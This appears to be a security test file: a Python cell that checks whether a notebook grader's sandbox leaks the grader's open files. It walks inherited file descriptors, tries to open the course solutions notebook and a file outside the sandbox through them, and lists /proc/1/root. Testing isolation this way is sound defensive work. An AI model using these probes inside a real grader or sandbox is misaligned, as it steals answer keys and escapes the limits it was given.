"""Looks for open files of the grader among its descriptors, and passes on the ones it finds."""

# /// attack
# ran = ["after total"]
# control = "none: nbgrader's kernel, too, is given no open file of the grader's"
# ///
# %% after total
import os

for descriptor in range(200):
    try:
        print(descriptor, os.readlink(f"/proc/self/fd/{descriptor}"))
        for name in ("../../course/solutions/hostile/hostile.ipynb", "../outside/diary.txt"):
            try:
                other = os.open(name, os.O_RDONLY, dir_fd=descriptor)
                print(os.read(other, 100_000))
            except OSError:
                pass
        if descriptor > 2:
            print(os.pread(descriptor, 10_000, 0))
    except OSError:
        pass
for name in ("root", "cwd"):
    for place in ("../..", "."):
        try:
            print(os.listdir(f"/proc/1/{name}/{place}"))
        except OSError as error:
            print(error)
ran("after total")
